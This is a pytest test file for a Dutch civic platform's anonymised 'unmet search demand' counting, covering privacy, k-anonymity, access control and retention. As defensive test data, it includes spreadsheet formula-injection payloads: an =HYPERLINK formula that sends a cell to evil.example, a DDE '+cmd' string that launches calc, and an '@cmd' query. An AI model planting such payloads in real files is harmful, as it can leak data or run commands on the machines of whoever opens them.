"""Unmet demand (search.demand): searches that find nothing or little are
counted per week, place and normalised query, without anything that points at
a person, and shown to the municipality only where k searches hide who asked."""

import csv
import io
from datetime import timedelta

import pytest
from django.contrib.auth.models import Group, Permission
from django.core.management import call_command
from django.db import connection
from django.test import Client
from django.utils import timezone

from initiatives.models import Woonplaats
from initiatives.permissions import MODERATORS, grant_access
from initiatives.places import rebuild_place_names
from initiatives.services import initiative_member_add
from search import demand
from search.backends import get_backend
from search.documents import all_documents
from search.models import SearchDemand, SearchDemandQuery
from tests.factories import (
    InitiativePageFactory,
    MunicipalityFactory,
    NeighbourhoodFactory,
    UserFactory,
    square,
)
from tests.search.conftest import LISSE, WIELWIJK

pytestmark = pytest.mark.django_db

PAGE, API = "/zoeken/", "/api/search/"
OVERVIEW, CSV = "/admin/overzicht/", "/admin/overzicht/zoekvragen.csv"
BROWSER = "Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0"
IN_WIELWIJK = f"{WIELWIJK.y},{WIELWIJK.x}"  # 'lat,lon', as the map sends it
THIS_WEEK = demand.week_of(timezone.localdate())


def browser(**headers) -> Client:
    """A new visitor: a browser with an empty cookie jar."""
    return Client(HTTP_USER_AGENT=BROWSER, **headers)


def search(text: str, *, waar: str = IN_WIELWIJK, client: Client | None = None, url=PAGE):
    response = (client or browser()).get(url, {"q": text, "waar": waar})
    assert response.status_code == 200
    return response


@pytest.fixture
def wijk(db):
    dordrecht = MunicipalityFactory(name="Dordrecht", slug="dordrecht", code="GM0505")
    return NeighbourhoodFactory(
        name="Wielwijk", municipality=dordrecht, boundary=square(WIELWIJK.x, WIELWIJK.y, 0.01)
    )


@pytest.fixture
def moderator(db):
    user = UserFactory()
    user.groups.add(Group.objects.get(name=MODERATORS))
    return user


# -- what a query counts as ----------------------------------------------------
@pytest.mark.parametrize(
    ("typed", "counted"),
    [
        ("Geldproblemen", "geldproblemen"),
        ("  Taalcafé   in de buurt ", "taalcafe"),
        ("koffie drinken", "drinken koffie"),
        ("drinken, KOFFIE! koffie", "drinken koffie"),
        ("ik zoek hulp bij 3317AB 06-12345678 nr 12", "hulp nr"),
        ("mail jan.jansen@example.nl of www.example.nl", "mail"),
        ("a b c de", ""),
        ("een twee drie vier vijf zes zeven", "drie twee vier vijf zes"),
        ("x" * 31 + " yoga", "yoga"),
        ("=SUM(A1) +1 -2 @cmd", "cmd sum"),
        ("zie https://evil.example/?x=1 voor", "zie"),
    ],
)
def test_a_query_is_normalised_before_it_counts(typed, counted):
    assert demand.normalise_query(typed) == counted


# -- counting ------------------------------------------------------------------
def test_a_search_that_finds_nothing_counts_in_its_week_wijk_and_gemeente(wijk):
    search("Geldproblemen")
    search("geldproblemen ")  # another visitor, the same demand
    row = SearchDemand.objects.get()
    assert (row.week, row.municipality_id, row.neighbourhood_id) == (
        THIS_WEEK,
        wijk.municipality_id,
        wijk.pk,
    )
    assert THIS_WEEK.weekday() == 0  # the Monday: nothing finer than the week
    assert (row.band, row.count) == ("none", 2)
    assert row.query_hash == demand.query_hash("geldproblemen")


def test_a_place_outside_every_wijk_counts_for_its_gemeente_or_nowhere(wijk):
    in_gemeente_only = f"{WIELWIJK.y + 0.05},{WIELWIJK.x}"  # the factory's gemeente is wider
    search("yoga", waar=in_gemeente_only)
    search("yoga", waar=f"{LISSE.y},{LISSE.x}")
    search("yoga", waar="")
    places = set(SearchDemand.objects.values_list("municipality_id", "neighbourhood_id"))
    assert places == {(wijk.municipality_id, None), (None, None)}
    assert SearchDemand.objects.get(municipality=None).count == 2


@pytest.mark.parametrize(
    ("waar", "in_wijk"),
    [
        ("Dordrecht", False),  # the gemeente: not the wijk at its centre
        ("Wielwijk", True),
        ("Wielwijk Dordrecht", True),
        ("Dubbeldam", False),  # a woonplaats: its gemeente, though its centre lies in Wielwijk
    ],
)
def test_a_named_place_counts_for_what_it_names(wijk, no_network, waar, in_wijk):
    # The gemeente's centre and the woonplaats's centre both lie in Wielwijk.
    dordrecht = wijk.municipality
    dordrecht.boundary = square(WIELWIJK.x, WIELWIJK.y, 0.1)
    dordrecht.save()
    Woonplaats.objects.create(name="Dubbeldam", municipality=dordrecht, point=WIELWIJK)
    rebuild_place_names()
    search("yoga", waar=waar)
    row = SearchDemand.objects.get()
    assert (row.municipality_id, row.neighbourhood_id) == (
        wijk.municipality_id,
        wijk.pk if in_wijk else None,
    )


def test_the_chosen_wijk_is_the_place_when_none_was_typed(wijk):
    browser().get(PAGE, {"q": "yoga", "wijk": wijk.pk})
    row = SearchDemand.objects.get()
    assert (row.municipality_id, row.neighbourhood_id) == (wijk.municipality_id, wijk.pk)


def test_the_api_counts_too(wijk):
    response = search("geldproblemen", url=API)
    assert response.json()["total"] == 0
    assert SearchDemand.objects.get().count == 1


def test_the_same_browser_counts_a_search_once(wijk):
    """Once in the retention period, not once a week: otherwise one person
    searching a rare query in five weeks would pass k alone."""
    visitor = browser()
    first = search("geldproblemen", client=visitor)
    search("Geldproblemen", client=visitor)
    search("geldproblemen", client=visitor, url=API)
    assert SearchDemand.objects.get().count == 1
    search("schuldhulp", client=visitor)  # something else: counts
    assert SearchDemand.objects.count() == 2
    # The cookie holds digests only: no query, no id to follow anyone by.
    cookie = first.cookies[demand.SEEN_COOKIE]
    assert "geld" not in cookie.value and cookie["httponly"] and cookie["samesite"] == "Lax"
    assert cookie["max-age"] == 52 * 7 * 86400


def test_the_browser_remembers_only_the_newest_searches(wijk):
    visitor = browser()
    words = [f"onderwerp{a}{b}" for a in "abcdefghij" for b in "abcde"][: demand.SEEN_MAX + 1]
    for word in words:
        search(word, client=visitor)
    assert SearchDemand.objects.filter(count=1).count() == demand.SEEN_MAX + 1
    signed = visitor.cookies[demand.SEEN_COOKIE].value  # "digest.digest…:timestamp:signature"
    assert len(signed.split(":")[0].split(".")) == demand.SEEN_MAX
    search(words[-1], client=visitor)  # remembered
    search(words[0], client=visitor)  # forgotten: the oldest made room
    assert SearchDemand.objects.filter(count=2).count() == 1


def test_a_forged_cookie_is_ignored(wijk):
    visitor = browser()
    visitor.cookies[demand.SEEN_COOKIE] = "abcdef0123"  # unsigned
    search("geldproblemen", client=visitor)
    assert SearchDemand.objects.get().count == 1


@pytest.mark.parametrize(
    "headers",
    [
        {},  # no user agent at all
        {"HTTP_USER_AGENT": "Mozilla/5.0 (compatible; Googlebot/2.1)"},
        {"HTTP_USER_AGENT": "curl/8.5.0"},
        {"HTTP_USER_AGENT": "python-requests/2.32"},
        {"HTTP_USER_AGENT": BROWSER, "HTTP_DNT": "1"},
        {"HTTP_USER_AGENT": BROWSER, "HTTP_SEC_GPC": "1"},
    ],
)
def test_robots_and_browsers_that_ask_not_to_be_followed_do_not_count(wijk, headers):
    response = Client(**headers).get(PAGE, {"q": "geldproblemen", "waar": IN_WIELWIJK})
    assert response.status_code == 200
    assert not SearchDemand.objects.exists()
    assert demand.SEEN_COOKIE not in response.cookies


@pytest.fixture
def one_listing(wijk, index):
    InitiativePageFactory(
        parent=index, title="Yogaclub Wielwijk", intro="Yoga voor iedereen.", location=WIELWIJK
    )
    get_backend().rebuild(all_documents())


def test_few_results_count_in_their_own_band_and_more_do_not(one_listing, settings):
    assert search("yoga").context["results"].total == 1
    assert SearchDemand.objects.get().band == "few"
    settings.SEARCH_DEMAND_FEW = 0
    search("yoga")
    assert SearchDemand.objects.get().count == 1


def test_only_the_first_page_counts(wijk):
    browser().get(PAGE, {"q": "geldproblemen", "pagina": 2})
    assert not SearchDemand.objects.exists()


def test_an_empty_search_does_not_count(wijk):
    browser().get(PAGE, {"q": "de een 12"})
    assert not SearchDemand.objects.exists()


def test_nothing_is_counted_when_switched_off(wijk, settings):
    settings.SEARCH_DEMAND_ENABLED = False
    search("geldproblemen")
    assert not SearchDemand.objects.exists()


# -- no personal data ----------------------------------------------------------
def test_the_tables_hold_no_personal_data():
    """A new column here needs a reason in docs/security.md ("What residents
    search for is counted"):
    an address, account, session, user agent or exact time would undo it."""
    columns = {
        table: {
            c.name
            for c in connection.introspection.get_table_description(connection.cursor(), table)
        }
        for table in (SearchDemand._meta.db_table, SearchDemandQuery._meta.db_table)
    }
    assert columns == {
        "search_searchdemand": {
            "id", "week", "municipality_id", "neighbourhood_id", "query_hash", "band", "count",
        },
        "search_searchdemandquery": {"query_hash", "text"},
    }  # fmt: skip


def test_a_query_text_is_kept_only_once_k_visitors_searched_it(wijk):
    for _ in range(4):
        search("dementie vader")
    assert SearchDemand.objects.get().count == 4
    assert not SearchDemandQuery.objects.exists()  # a hash nobody reads back
    search("vader dementie")
    assert SearchDemandQuery.objects.get().text == "dementie vader"


# -- a failing write -----------------------------------------------------------
def test_a_failing_write_does_not_break_the_search(wijk, caplog):
    with connection.cursor() as cursor:
        cursor.execute("ALTER TABLE search_searchdemand RENAME TO search_searchdemand_away")
    response = search("geldproblemen")
    assert "Geen resultaten" in response.content.decode() or response.context["results"].total == 0
    assert "Could not count a search" in caplog.text
    # The failed write rolled back to its savepoint: the connection still works.
    with connection.cursor() as cursor:
        cursor.execute("ALTER TABLE search_searchdemand_away RENAME TO search_searchdemand")
    search("schuldhulp")
    assert SearchDemand.objects.count() == 1


def test_an_error_while_noting_a_search_does_not_break_it(wijk, monkeypatch):
    def broken(*args, **kwargs):
        raise RuntimeError("broken")

    monkeypatch.setattr(demand, "entry_for", broken)
    assert search("geldproblemen").status_code == 200


# -- the report ----------------------------------------------------------------
def overview(client, **params):
    response = client.get(OVERVIEW, params)
    assert response.status_code == 200
    return response.content.decode()


def download(client, **params) -> list[list[str]]:
    response = client.get(CSV, params)
    assert response.status_code == 200 and response["Content-Type"].startswith("text/csv")
    return list(csv.reader(io.StringIO(response.content.decode("utf-8-sig")), delimiter=";"))


def test_a_rare_query_is_not_shown_until_k_searched_it(wijk, moderator, client):
    for _ in range(5):
        search("koffie")
    for _ in range(4):
        search("zeldzame ziekte")
    client.force_login(moderator)
    page = overview(client)
    assert "Waar zoeken inwoners naar en vinden ze niets?" in page
    assert "koffie" in page and "zeldzame" not in page and "ziekte" not in page
    assert "overige zoekvragen (4)" in page
    rows = download(client)
    assert [r[3:] for r in rows[1:]] == [
        ["koffie", "5", "0", "5"],
        ["overige zoekvragen", "4", "0", "4"],
    ]
    assert "ziekte" not in str(rows)

    search("ziekte zeldzame")
    page = overview(client)
    assert "zeldzame ziekte" in page and "overige zoekvragen (" not in page


def test_k_counts_in_the_scope_that_is_shown(wijk, moderator, client):
    """Five searches in all, but four in Wielwijk: in Wielwijk's view the
    text would single out its four, so it is hidden there."""
    for _ in range(4):
        search("rolstoeltaxi")
    search("rolstoeltaxi", waar="")
    client.force_login(moderator)
    assert "rolstoeltaxi" in overview(client)
    in_dordrecht = overview(client, gemeente=wijk.municipality_id)
    assert f'<option value="{wijk.pk}">Wielwijk</option>' in in_dordrecht
    in_wielwijk = overview(client, gemeente=wijk.municipality_id, wijk=wijk.pk)
    assert "rolstoeltaxi" not in in_wielwijk
    assert "Minder dan 5 zoekopdrachten" in in_wielwijk
    assert download(client, wijk=wijk.pk)[1][3] == "minder dan 5 zoekopdrachten: niets te tonen"


def test_a_query_common_elsewhere_stays_hidden_in_a_wijk_where_few_used_it(wijk, moderator, client):
    """The wijk holds enough searches to show, and the query's text is known
    (5 in all), but only 4 of them were in this wijk."""
    for _ in range(5):
        search("koffie")
    for _ in range(4):
        search("rolstoeltaxi")
    search("rolstoeltaxi", waar="")
    assert SearchDemandQuery.objects.filter(text="rolstoeltaxi").exists()
    client.force_login(moderator)
    in_wielwijk = overview(client, gemeente=wijk.municipality_id, wijk=wijk.pk)
    assert "koffie" in in_wielwijk and "rolstoeltaxi" not in in_wielwijk
    assert "overige zoekvragen (4)" in in_wielwijk
    rows = download(client, gemeente=wijk.municipality_id, wijk=wijk.pk)
    assert [r[3] for r in rows[1:]] == ["koffie", "overige zoekvragen"]


def test_the_report_filters_by_week_and_gemeente(wijk, moderator, client):
    other = MunicipalityFactory(
        name="Lisse", slug="lisse", code="GM0553", boundary=square(LISSE.x, LISSE.y, 0.05)
    )
    last_week = THIS_WEEK - timedelta(weeks=1)
    SearchDemand.objects.create(
        week=last_week,
        municipality=other,
        query_hash=demand.query_hash("bollen"),
        band="none",
        count=7,
    )
    SearchDemandQuery.objects.create(query_hash=demand.query_hash("bollen"), text="bollen")
    for _ in range(5):
        search("koffie")
    client.force_login(moderator)
    everything = overview(client)
    assert "bollen" in everything and "koffie" in everything
    assert "bollen" not in overview(client, gemeente=wijk.municipality_id)
    this_week = overview(client, week=THIS_WEEK.isoformat())
    assert "koffie" in this_week and "bollen" not in this_week
    rows = download(client, week=last_week.isoformat(), gemeente=other.pk)
    assert rows[1] == [f"week van {last_week:%Y-%m-%d}", "Lisse", "", "bollen", "7", "0", "7"]


def test_the_csv_escapes_names_a_spreadsheet_would_run(moderator, client):
    evil = MunicipalityFactory(name='=HYPERLINK("http://evil.example/?"&A1,"Klik")')
    wijk = NeighbourhoodFactory(
        name="+cmd|' /C calc'!A0", municipality=evil, boundary=square(WIELWIJK.x, WIELWIJK.y, 0.01)
    )
    for _ in range(5):
        search("koffie")
    client.force_login(moderator)
    rows = download(client, gemeente=evil.pk, wijk=wijk.pk)
    assert rows[1][1:5] == [f"'{evil.name}", f"'{wijk.name}", "koffie", "5"]


# -- who may see it ------------------------------------------------------------
@pytest.fixture
def editor(index):
    initiative = InitiativePageFactory(parent=index)
    grant_access(initiative)
    user = UserFactory()
    initiative_member_add(user=user, initiative=initiative)
    return user


def test_initiative_editors_and_bare_admin_users_get_403(client, editor, wijk):
    for _ in range(5):
        search("koffie")
    bare = UserFactory()
    bare.user_permissions.add(Permission.objects.get(codename="access_admin"))
    for user in (editor, bare):
        client.force_login(user)
        for url in (OVERVIEW, CSV):
            response = client.get(url)
            assert response.status_code == 403
            assert b"koffie" not in response.content


def test_anonymous_visitors_are_sent_to_log_in(client):
    response = client.get(CSV)
    assert response.status_code == 302 and "login" in response["Location"]


@pytest.mark.parametrize("kind", ["moderator", "staff", "superuser"])
def test_moderators_staff_and_superusers_may_download_it(client, moderator, kind):
    user = {
        "moderator": moderator,
        "staff": UserFactory(is_staff=True),
        "superuser": UserFactory(is_staff=True, is_superuser=True),
    }[kind]
    if kind == "staff":
        user.user_permissions.add(Permission.objects.get(codename="access_admin"))
    client.force_login(user)
    assert client.get(CSV).status_code == 200


def test_the_privacy_statement_says_what_is_counted(client, settings):
    settings.SEARCH_DEMAND_RETENTION_WEEKS, settings.SEARCH_DEMAND_MIN_COUNT = 26, 7
    statement = client.get("/privacy/").content.decode()
    assert "Als je zoekt" in statement and "Na 26 weken verwijderen we de tellingen" in statement
    assert "pas als minstens 7 keer hetzelfde is gezocht" in statement


# -- retention -----------------------------------------------------------------
def test_weeks_past_the_retention_period_are_deleted_and_never_shown(
    wijk, moderator, client, settings
):
    settings.SEARCH_DEMAND_RETENTION_WEEKS = 52
    key = demand.query_hash("bollen")
    old, kept = THIS_WEEK - timedelta(weeks=52), THIS_WEEK - timedelta(weeks=51)
    SearchDemand.objects.create(week=old, query_hash=key, band="none", count=9)
    SearchDemand.objects.create(week=kept, query_hash=key, band="none", count=2)
    SearchDemandQuery.objects.create(query_hash=key, text="bollen")
    client.force_login(moderator)
    assert "bollen" not in overview(client)  # 9 of its 11 are past the period

    call_command("purge_search_demand", stdout=io.StringIO())
    assert list(SearchDemand.objects.values_list("week", flat=True)) == [kept]
    # The 2 left are fewer than k: the text goes too.
    assert not SearchDemandQuery.objects.exists()
